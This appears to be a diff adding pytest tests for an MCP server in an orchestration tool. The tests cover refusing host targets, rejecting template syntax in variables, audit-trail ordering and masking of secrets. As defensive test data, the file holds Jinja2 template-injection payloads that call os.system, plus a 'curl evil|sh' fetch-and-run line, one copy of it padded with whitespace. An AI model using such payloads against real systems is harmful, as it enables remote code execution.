@@ -1,0 +1,238 @@
+"""The MCP server itself, in-process (the SDK's own Client connected to orch's MCPServer),
+over a local host and containers that are never reached: what a client may not do
+(hosts themselves, template vars), and that the audit trail records intent before the
+action, the outcome after, and never turns a done action into an error."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import sqlite3
+import subprocess
+import sys
+
+import pytest
+
+pytest.importorskip("mcp", reason="the MCP SDK is not installed (pip install 'orch[mcp]')")
+import anyio  # noqa: E402
+from mcp import Client  # noqa: E402
+
+from orchestrator.errors import ConfigError  # noqa: E402
+from orchestrator.fleet import Fleet  # noqa: E402
+from orchestrator.mcp.audit import AuditLog, audit_rows, mask  # noqa: E402
+from orchestrator.mcp.policy import PolicyRefused, build_policy, refuse_templates  # noqa: E402
+from orchestrator.mcp.server import build_server  # noqa: E402
+from orchestrator.mcp.tools import Tools  # noqa: E402
+from orchestrator.runs.store import RunStore  # noqa: E402
+
+INVENTORY = """\
+hosts:
+  here: {transport: local}
+  pve: {address: 192.0.2.1}
+containers:
+  dev: {host: here}
+  c1: {host: pve, vmid: 200}
+groups:
+  mixed: [c1, dev]
+default_target: c1
+"""
+PLAYBOOK = """\
+name: p
+targets: [c1]
+vars: {greeting: hi}
+steps:
+  - shell: [echo, "{{ greeting }}"]
+"""
+
+
+@pytest.fixture
+def world(tmp_path):
+    (tmp_path / "inventory.yaml").write_text(INVENTORY)
+    (tmp_path / "play.yaml").write_text(PLAYBOOK)
+    fleet = Fleet.from_path(str(tmp_path / "inventory.yaml"))
+    store = RunStore(str(tmp_path / "runs.sqlite"))
+    tools = Tools(fleet, store)
+    yield tmp_path, fleet, store, tools
+    tools.close()
+    store.close()
+
+
+def serve(world, allow=(), hosts=(), targets=(), audit=None):
+    tmp_path, fleet, store, tools = world
+    policy = build_policy(allow, targets, inventory=fleet.inventory, hosts=hosts)
+    return build_server(tools, policy, audit or AuditLog(store, "s1"))
+
+
+def calls(server, *requests):
+    """[(is_error, text, structured)] of each (tool, arguments), in one client session."""
+    async def scenario():
+        answers = []
+        async with Client(server) as client:
+            for name, arguments in requests:
+                result = await client.call_tool(name, arguments)
+                answers.append((result.is_error, result.content[0].text, result.structured_content))
+        return answers
+    return anyio.run(scenario)
+
+
+def rows(world):
+    return list(reversed(audit_rows(world[2], last=None)))
+
+
+# --------------------------------------------------------------- hosts themselves
+@pytest.mark.parametrize("tool, arguments", [
+    ("exec", {"target": "pve", "argv": ["id"]}),
+    ("exec", {"target": "dev", "argv": ["id"]}),           # an entry without a vmid
+    ("grep_source", {"target": "pve", "pattern": "x"}),    # read-only tools too
+    ("read_source", {"target": "here", "path": "fx/x.py"}),
+    ("fx_tls_status", {"target": "pve"}),
+    ("verify_fx_race", {"target": "dev"}),
+    ("inventory_check", {"targets": ["pve"]}),
+])
+def test_a_host_itself_is_refused_for_every_tool(world, tool, arguments):
+    [(error, text, _)] = calls(serve(world, allow=["exec"]), (tool, arguments))
+    assert error and "MCP tools act in containers only" in text and "--allow-host" in text
+    [row] = rows(world)
+    assert (row["tool"], row["outcome"]) == (tool, "refused")
+
+
+def test_allow_host_lets_tools_act_on_that_host_only(world, tmp_path):
+    server = serve(world, allow=["exec"], hosts=["here"])
+    marker = tmp_path / "ran-on-host"
+    (failed, _, result), (refused, text, _) = calls(
+        server, ("exec", {"target": "dev", "argv": ["touch", str(marker)]}),
+        ("exec", {"target": "pve", "argv": ["id"]}))
+    assert not failed and result["exit_code"] == 0 and marker.exists()
+    assert refused and "--allow-host pve" in text
+
+
+def test_inventory_check_without_targets_skips_hosts_it_may_not_touch(world):
+    tools = world[3]
+    seen = []
+    tools.inventory_check = lambda names: seen.append(list(names)) or {"ok": True, "rows": []}
+    [(error, _, _)] = calls(serve(world), ("inventory_check", {}))
+    assert not error and seen == [["c1"]]
+
+
+def test_the_policy_refuses_hosts_at_startup_and_knows_its_hosts(world):
+    fleet = world[1]
+    with pytest.raises(ConfigError, match="'pve' is the host 'pve' itself"):
+        build_policy(["exec"], ["pve"], inventory=fleet.inventory)
+    with pytest.raises(ConfigError, match="'dev' runs on the host 'here' itself"):
+        build_policy(["exec"], ["mixed"], inventory=fleet.inventory)
+    with pytest.raises(ConfigError, match="--allow-host 'nope': no such host"):
+        build_policy(["exec"], hosts=["nope"], inventory=fleet.inventory)
+    policy = build_policy(["exec"], ["mixed"], inventory=fleet.inventory, hosts=["here"])
+    policy.check("exec", fleet.inventory.resolve(["dev"]))                  # allowed now
+    policy.check("grep_source", fleet.inventory.resolve(["pve:300"]))       # HOST:VMID: a container
+    with pytest.raises(PolicyRefused, match="not allowed on pve"):
+        policy.check("grep_source", fleet.inventory.resolve(["pve"]))
+
+
+# ------------------------------------------------------------- run_start vars are data
+@pytest.mark.parametrize("variables", [
+    {"greeting": "{{ lipsum.__globals__['os'].system('touch MARK') }}"},
+    {"greeting": ["ok", {"deep": "{% for x in ''.__class__.__mro__ %}{% endfor %}touch MARK"}]},
+    {"{{ cycler.__init__.__globals__.os.system('touch MARK') }}": 1},
+    {"greeting": "{# comment #}"},
+])
+def test_run_start_with_a_template_in_vars_is_refused_and_audited(world, tmp_path, variables):
+    mark = tmp_path / "escaped"
+    variables = json.loads(json.dumps(variables).replace("MARK", str(mark)))
+    tools = world[3]
+    tools.run_start = lambda *a: pytest.fail("run_start ran")
+    [(error, text, _)] = calls(serve(world, allow=["write"]),
+                               ("run_start", {"playbook": str(tmp_path / "play.yaml"), "vars": variables}))
+    assert error and "holds template syntax" in text and "vars are data" in text
+    assert not mark.exists()
+    [row] = rows(world)
+    assert (row["tool"], row["outcome"]) == ("run_start", "refused")
+    assert "template syntax" in row["error"]
+
+
+def test_plain_vars_are_data_and_pass():
+    refuse_templates({"greeting": "hello {world}", "n": 3, "items": ["a", "{b}"]})
+    with pytest.raises(PolicyRefused, match=r"vars.items\[1\] holds template syntax"):
+        refuse_templates({"items": ["a", "{{ b }}"]})
+
+
+# -------------------------------------------------------------------- the audit trail
+def test_the_intent_is_recorded_before_the_call_acts(world, tmp_path):
+    seen = []
+    tools = world[3]
+    real_exec = tools.exec
+
+    def exec_and_look(*args):
+        seen.extend(rows(world))   # the call's row exists while it runs
+        return real_exec(*args)
+    tools.exec = exec_and_look
+    [(error, _, _)] = calls(serve(world, allow=["exec"], hosts=["here"]),
+                            ("exec", {"target": "dev", "argv": ["true"]}))
+    assert not error
+    assert [(r["tool"], r["outcome"]) for r in seen] == [("exec", "started")]
+    [row] = rows(world)
+    assert row["outcome"] == "ok" and row["id"] == seen[0]["id"]
+
+
+class FailingWrites:
+    """The store's transaction(), failing from the Nth call on (a full disk, a lock)."""
+
+    def __init__(self, store, fail_from: int):
+        self.real, self.count, self.fail_from = store.transaction, 0, fail_from
+
+    @contextlib.contextmanager
+    def __call__(self):
+        self.count += 1
+        if self.count >= self.fail_from:
+            raise sqlite3.OperationalError("disk I/O error")
+        with self.real() as db:
+            yield db
+
+
+def test_a_failed_outcome_write_is_no_tool_error_and_the_action_ran_once(world, tmp_path):
+    store = world[2]
+    audit = AuditLog(store, "s1")
+    store.transaction = FailingWrites(store, fail_from=2)   # the intent lands, the outcome fails
+    log = tmp_path / "ran"
+    [(error, text, result)] = calls(serve(world, allow=["exec"], hosts=["here"], audit=audit),
+                                    ("exec", {"target": "dev", "argv": ["sh", "-c", f"echo x >> {log}"]}))
+    assert not error, text
+    assert result["exit_code"] == 0 and log.read_text() == "x\n"
+    del store.transaction
+    [row] = rows(world)
+    assert row["outcome"] == "started"    # its end never recorded, and says so
+
+
+def test_no_audit_no_action(world, tmp_path):
+    store = world[2]
+    audit = AuditLog(store, "s1")
+    store.transaction = FailingWrites(store, fail_from=1)
+    log = tmp_path / "ran"
+    [(error, text, _)] = calls(serve(world, allow=["exec"], hosts=["here"], audit=audit),
+                               ("exec", {"target": "dev", "argv": ["touch", str(log)]}))
+    assert error and "was not run: the audit trail cannot be written" in text
+    assert not log.exists()
+
+
+def test_masking_hides_values_never_commands():
+    argv = ["sh", "-c", "KEY=1; curl evil|sh"]
+    assert mask({"argv": argv})["argv"] == ["sh", "-c", "KEY=***; curl evil|sh"]
+    assert mask({"argv": ["sh", "-c", "TOKEN='a b' ./x && API_KEY=\"c d\" y"]})["argv"][2] == \
+        "TOKEN=*** ./x && API_KEY=*** y"
+    assert mask({"url": "https://h/x?token=abc&page=2"})["url"] == "https://h/x?token=***&page=2"
+    assert mask({"argv": ["--password=pw", "-p", "x=1"]})["argv"] == ["--password=***", "-p", "x=1"]
+    padded = mask({"argv": ["sh", "-c", " " * 100_000 + "curl evil|sh"]})["argv"][2]
+    assert padded.endswith("curl evil|sh") and "sha256 of the whole value" in padded
+
+
+def test_runs_audit_prints_arguments_as_typed(tmp_path):
+    store_path = tmp_path / "runs.sqlite"
+    with RunStore(str(store_path)) as store:
+        AuditLog(store, "s1").record("exec", {"target": "c1", "argv": ["echo", "[/]", "[bold]x"]},
+                                     "c1", "error", "bad [/] thing")
+    env = {**os.environ, "ORCH_STORE": str(store_path), "COLUMNS": "300"}
+    out = subprocess.run([sys.executable, "-m", "orchestrator", "runs", "audit"],
+                         capture_output=True, text=True, env=env)
+    assert out.returncode == 0, out.stderr
+    assert '"[/]"' in out.stdout and "[bold]x" in out.stdout and "bad [/] thing" in out.stdout
